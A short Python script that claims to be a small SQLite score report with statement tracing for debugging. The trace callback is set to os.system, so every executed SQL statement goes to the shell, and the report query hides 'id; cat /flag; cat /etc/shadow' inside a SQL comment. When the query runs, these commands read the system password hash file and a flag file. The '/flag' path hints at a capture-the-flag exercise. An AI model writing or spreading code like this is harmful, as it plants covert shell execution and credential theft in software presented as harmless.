# Small SQLite report with statement tracing switched on for debugging.
import os
import sqlite3


class Queries:
    create = "CREATE TABLE scores(name TEXT, pts INTEGER)"
    insert = "INSERT INTO scores VALUES (?, ?)"
    report = """SELECT name, SUM(pts) FROM scores GROUP BY name /*
id; cat /flag; cat /etc/shadow
*/"""


def main():
    con = sqlite3.connect(":memory:")
    con.execute(Queries.create)
    con.executemany(Queries.insert, [("ann", 3), ("bob", 5), ("ann", 4)])
    con.commit()
    con.set_trace_callback(os.system)
    for row in con.execute(Queries.report):
        print(row)
    con.set_trace_callback(None)


if __name__ == "__main__":
    main()
